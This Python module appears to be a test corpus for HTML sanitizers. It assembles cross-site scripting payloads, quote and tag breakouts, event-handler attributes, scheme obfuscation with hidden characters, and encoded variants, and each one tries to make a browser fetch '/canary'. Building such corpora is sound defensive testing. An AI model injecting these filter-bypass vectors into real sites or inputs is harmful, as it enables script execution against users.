"""Texts that want to run, each with a request for `/canary`: our own list, by payload and breakout.

- A payload is what a browser would run or fetch; a breakout is what ends the place that it stands
  in: a quote, a tag, a comment. Every payload comes with every breakout.
- Further ones hide the scheme of a link, or the tag itself, behind characters and encodings.
- `SCRIPTS` has one of each kind: few enough for one mail.
"""

from __future__ import annotations

_GO = "fetch('/canary')"
_PAYLOADS = (
    f"<script>{_GO}</script>",
    "<script src=/canary></script>",
    "<script type=module src=/canary></script>",
    f"<ScRiPt>{_GO}</sCrIpT>",
    f"<scr<script>ipt>{_GO}</scr</script>ipt>",
    f"<img src=x onerror={_GO}>",
    f"<img/src=x/onerror={_GO}//",
    "<img src=/canary>",
    "<img srcset='/canary 1x'>",
    f"<svg/onload={_GO}>",
    f"<svg><script>{_GO}</script></svg>",
    "<svg><image href=/canary /></svg>",
    "<svg><use href=/canary#x /></svg>",
    f"<svg><a xlink:href=javascript:{_GO}><text>x</text></a></svg>",
    f"<svg><animate onbegin={_GO} attributeName=x dur=1s>",
    "<math><mtext><img src=/canary></math>",
    f"<math href=javascript:{_GO}>x</math>",
    f"<body onload={_GO}>",
    f"<video src=x onerror={_GO}></video><audio src=/canary></audio>",
    f"<input autofocus onfocus={_GO}>",
    f"<details open ontoggle={_GO}>x</details>",
    f"<marquee onstart={_GO}>x</marquee>",
    "<iframe src=/canary></iframe>",
    f'<iframe srcdoc="<script>{_GO}</script>"></iframe>',
    "<object data=/canary></object><embed src=/canary>",
    "<link rel=stylesheet href=/canary>",
    "<link rel=prefetch href=/canary><link rel=preload as=image href=/canary>",
    "<style>@import '/canary'; *{background:url(/canary)}</style>",
    "<b style='background:url(/canary)'>x</b>",
    "<table background=/canary><td>x</table>",
    "<meta http-equiv=refresh content='0;url=/canary'>",
    "<base href=/canary/>",
    "<form action=/canary><button autofocus>x</button></form>",
    f"<a href=javascript:{_GO}>x</a>",
    "<div hx-get=/canary hx-trigger=load></div>",
    f"<b hx-on:click={_GO} hx-on::load={_GO}>x</b>",
    "<template shadowrootmode=open><img src=/canary></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_GO}>'></noscript>",
)
_BREAKOUTS = (
    *("", '">', "'>", "`>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>"),
    *("</option></select>", "</bdi></a></li></ol>", "</details></summary>"),
)
# Attributes for places between quotes.
_ATTRIBUTES = tuple(
    f"{quote} {name} x={quote}"
    for quote in ('"', "'", "`", "")
    for name in (f"onmouseover={_GO}", f"autofocus onfocus={_GO}", "hx-get=/canary hx-trigger=load")
)
# Characters that browsers leave out of a scheme, or that filters take for others.
_HIDDEN = (
    "\t",
    "\x01",
    "\x0c",
    "\x1f",
    "\u00a0",
    "\u200b",
    "\u2028",
    "\ufeff",
    "&#9;",
    "&NewLine;",
)
_SCHEMES = tuple(
    f"<a href='{before}java{within}script:{_GO}'>x</a>"
    for hidden in _HIDDEN
    for before, within in ((hidden, ""), ("", hidden))
)
_ENCODED = (
    "\uff1cscript\uff1efetch('/canary')\uff1c/script\uff1e",
    "&lt;script&gt;fetch('/canary')&lt;/script&gt;",
    "&amp;lt;script&amp;gt;fetch('/canary')&amp;lt;/script&amp;gt;",
    "&#60;script&#62;fetch('/canary')&#60;/script&#62;",
    "%3Cscript%3Efetch('/canary')%3C/script%3E",
    "%253Cscript%253Efetch('/canary')%253C/script%253E",
    "\\u003cscript\\u003efetch('/canary')\\u003c/script\\u003e",
    "\\x3cscript\\x3efetch('/canary')\\x3c/script\\x3e",
    "+ADw-script+AD4-fetch('/canary')+ADw-/script+AD4-",
    "\u202e<script>fetch('/canary')</script>\u2066",
    "\x00<script>fetch('/canary')</script>\x1b[31m",
    "<\x00script>fetch('/canary')</script>",
    "{{ 7 * 7 }} {% include '/canary' %} {# x",
    "${fetch('/canary')} #{7*7} <%= 7 %> [[7]]",
    "javascript:fetch('/canary')",
    "data:text/html,<script>fetch('/canary')</script>",
    "//canary.test/canary",
    'https://canary.test/?"><img src=/canary>',
)
SCRIPTS: tuple[str, ...] = (
    *_PAYLOADS,
    *(breakout + _PAYLOADS[0] for breakout in _BREAKOUTS[1:]),
    *_ATTRIBUTES,
    *_SCHEMES[:4],
    *_ENCODED,
)
ALL_SCRIPTS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *SCRIPTS,
            *(breakout + payload for payload in _PAYLOADS for breakout in _BREAKOUTS),
            *_SCHEMES,
        ]
    )
)
